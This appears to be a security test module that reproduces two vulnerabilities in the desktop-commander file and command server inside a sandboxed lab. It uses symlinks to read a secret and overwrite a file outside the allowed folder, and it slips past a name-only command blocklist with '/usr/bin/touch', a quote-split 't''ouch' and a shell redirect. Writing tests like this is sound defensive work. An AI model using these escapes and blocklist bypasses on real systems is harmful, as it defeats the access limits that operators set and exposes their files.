"""A server for files and commands: links that lead out of its folders, and a list of blocked commands that knows only their names."""

import json

from attack import Attack, Stdio, node
from lab import Lab
from session import Session


def prepare(lab: Lab) -> None:
    lab.write("inside/welcome.md", "Welcome.\n")
    lab.write("secret.txt", lab.secret)
    lab.write("victim.txt", "untouched")
    (lab.inside / "link.txt").symlink_to(lab.folder / "secret.txt")
    (lab.inside / "victim.txt").symlink_to(lab.folder / "victim.txt")
    settings = {"allowedDirectories": [str(lab.inside)], "blockedCommands": ["touch"], "telemetryEnabled": False}
    lab.write("home/.claude-server-commander/config.json", json.dumps(settings))


def server(lab: Lab) -> Stdio:
    script = "@wonderwhy-er/desktop-commander/dist/index.js"
    return node("desktop-commander", script, cwd=lab.inside, env={"HOME": str(lab.folder / "home")})


async def ordinary(session: Session, lab: Lab) -> None:
    await session.expect("Welcome.", "read_file", path=f"{lab.inside}/welcome.md")
    await session.call("write_file", path=f"{lab.inside}/new.md", content="written")
    if (lab.inside / "new.md").read_text() != "written":
        raise AssertionError("write_file did not write")
    await session.expect("new.md", "list_directory", path=str(lab.inside))


async def follows_links(session: Session, lab: Lab) -> None:
    await session.attempt("read_file", path=f"{lab.inside}/link.txt")
    await session.attempt("write_file", path=f"{lab.inside}/victim.txt", content="overwritten")


async def runs_blocked_commands(session: Session, lab: Lab) -> None:
    # Where there is no shell the server ends itself, so that each try needs another.
    for mark in (lab.folder / "mark", lab.inside / "mark"):
        for command in (f"/usr/bin/touch {mark}", f"t''ouch {mark}", f"echo >{mark}"):
            await session.attempt_apart("start_process", command=command, timeout_ms=5000)


COMMON = {
    "package": "@wonderwhy-er/desktop-commander@0.2.13",
    "prepare": prepare,
    "server": server,
    "ordinary": ordinary,
    "constraints": lambda lab: [
        {"at": "/path", "path": {"roots": [str(lab.inside)], "follow_links": True}},
        {"tools": ["start_process"], "at": "/command", "enum": ["git status"]},
    ],
    "sandbox": lambda lab: {"write": [str(lab.inside), str(lab.folder / "home")]},
    "needs": ("desktop-commander",),
}

ATTACKS = (
    Attack(
        name="desktop-commander-link",
        ids="CVE-2025-11489",
        what="follows a link out of the allowed folder, reading and writing",
        attack=follows_links,
        happened=lambda session, lab: session.heard_of(lab.secret) or (lab.folder / "victim.txt").read_text() != "untouched",
        **COMMON,
    ),
    Attack(
        name="desktop-commander-command",
        ids="CVE-2025-11490",
        what="runs a blocked command by its path",
        attack=runs_blocked_commands,
        happened=lambda _, lab: (lab.folder / "mark").exists() or (lab.inside / "mark").exists(),
        **COMMON,
    ),
)
